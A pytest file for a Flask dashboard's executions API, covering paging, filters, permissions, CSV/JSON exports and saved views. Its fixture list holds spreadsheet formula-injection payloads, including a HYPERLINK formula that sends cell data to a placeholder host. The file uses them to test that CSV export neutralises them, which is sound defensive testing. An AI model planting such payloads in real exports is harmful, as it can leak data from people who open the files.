"""The list of executions over HTTP: filters, cursors, exports, who sees what; views."""

from __future__ import annotations

import csv
import io
import json

import pytest
from flask.testing import FlaskClient

from services.auth.user import User
from services.container import Container
from services.runs.execution import Execution, add_execution
from tests.http.conftest import PASSWORD, error_code, sign_in

COMPUTING = [
    "=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1", '=HYPERLINK("http://x/?"&A1)',
    'a";=1+1;"b', "-5", "two\nlines",
]  # fmt: skip
EXECUTIONS = "/dashboard/api/executions"
VIEWS = "/dashboard/api/views"

Headers = dict[str, str]


@pytest.fixture
def admin(container: Container, client: FlaskClient) -> Headers:
    container.users.create("root", PASSWORD, "admin")
    return sign_in(client, "root")


@pytest.fixture
def titles(container: Container, alice: User) -> list[str]:
    """Alice's, each a second after the one before; and one that nobody owns."""
    with container.database.session() as session:
        for number, title in enumerate(COMPUTING):
            state = "failed" if number % 2 else "succeeded"
            made = Execution(f"e{number}", "etl", title, alice.id, "jobs.etl", 100.0 + number, state=state)
            add_execution(session, made, is_told=True)
        add_execution(
            session, Execution("nobody", "etl", "Alone", None, "jobs.etl", 99.5, finished_at=99.0), is_told=True
        )
    return COMPUTING


def test_pages_by_cursor(client: FlaskClient, bearer: Headers, titles: list[str]) -> None:
    found, before = [], ""
    while before is not None:
        page = client.get(EXECUTIONS, query_string={"limit": 5, "before": before}, headers=bearer).json
        assert (page["total"], page["total_is_exact"], page["searched_to"]) == (12, True, None)
        found += [one["title"] for one in page["executions"]]
        before = page["next"]
    assert found == titles[::-1]


def test_members_see_their_own_and_admins_all(
    client: FlaskClient, bearer: Headers, admin: Headers, titles: list[str]
) -> None:
    assert client.get(f"{EXECUTIONS}/e0", headers=bearer).json["title"] == "=1+1"
    assert client.get(f"{EXECUTIONS}/nobody", headers=bearer).status_code == 404
    assert client.get(f"{EXECUTIONS}/nobody", headers=admin).json["owner"] is None
    assert client.get(EXECUTIONS, headers=admin).json["total"] == len(titles) + 1
    assert client.get("/dashboard/api/numbers", headers=admin).json["queued"] == 1


@pytest.mark.parametrize(
    ("query", "number"),
    [("status=failed", 6), ("status=failed,succeeded", 12), ("status=failed&status=succeeded", 12), ("kind=scan", 0),
     ("since=110", 2), ("until=1970-01-01T00:01:42Z", 2), ("since=1h", 0), ("q=hyperlink", 1), ("owner=somebody", 0)],
)  # fmt: skip
def test_filters(client: FlaskClient, bearer: Headers, titles: list[str], query: str, number: int) -> None:
    assert client.get(f"{EXECUTIONS}?{query}", headers=bearer).json["total"] == number


@pytest.mark.parametrize(
    "query", ["before=x", "after=x", "status=done", "alert=red", "since=soon", "limit=0", "format=xml"]
)
def test_what_is_no_filter_or_cursor_is_refused(client: FlaskClient, bearer: Headers, query: str) -> None:
    answer = client.get(f"{EXECUTIONS}?{query}", headers=bearer)
    assert (answer.status_code, error_code(answer)) == (400, "bad_request")


def test_no_cell_of_the_csv_computes_and_numbers_stay_numbers(
    client: FlaskClient, admin: Headers, titles: list[str]
) -> None:
    answer = client.get(f"{EXECUTIONS}?format=csv", headers=admin)
    assert answer.content_type == "text/csv; charset=utf-8" and "attachment" in answer.headers["Content-Disposition"]
    head, *rows = csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig")))
    assert {len(row) for row in rows} == {len(head)} and len(rows) == len(titles) + 1
    cells = [row[head.index("title")] for row in rows[:-1]]
    assert cells[::-1] == [
        "'=1+1", "'+1", "'-1+1", "'@SUM(A1)", "'=1+1", "'=1+1", "'=1+1", "'\uff1d1+1", "'=HYPERLINK(\"http://x/?\"&A1)",
        "a\";'=1+1;\"b", "'-5", "two lines",
    ]  # fmt: skip
    assert ",100.0," in answer.text


def test_the_json_export_is_what_was_published(client: FlaskClient, bearer: Headers, titles: list[str]) -> None:
    exported = json.loads(client.get(f"{EXECUTIONS}?format=json&status=succeeded", headers=bearer).get_data())
    assert [one["title"] for one in exported] == titles[::2][::-1]
    nothing = client.get(f"{EXECUTIONS}?format=json&q=nothing", headers=bearer).get_data()
    assert json.loads(nothing) == []


def test_a_view_belongs_to_one_person(client: FlaskClient, bearer: Headers, admin: Headers) -> None:
    saved = client.post(VIEWS, json={"name": " Failed  nights", "query": "status=failed"}, headers=bearer)
    assert (saved.status_code, saved.json["name"]) == (201, "Failed nights")
    again = client.post(VIEWS, json={"name": "Failed nights", "query": "kind=etl"}, headers=bearer).json
    assert client.get(VIEWS, headers=bearer).json == {"views": [again]} and again["query"] == "kind=etl"
    assert client.get(VIEWS, headers=admin).json == {"views": []}
    assert client.delete(f"{VIEWS}/{again['id']}", headers=admin).status_code == 404
    assert client.delete(f"{VIEWS}/{again['id']}", headers=bearer).status_code == 204
    assert client.get(VIEWS, headers=bearer).json == {"views": []}
    for wrong in ({"name": "\0", "query": ""}, {"name": "v", "query": "\0"}, {"name": "v", "query": "q=\ud83d"}):
        assert client.post(VIEWS, json=wrong, headers=bearer).status_code == 400
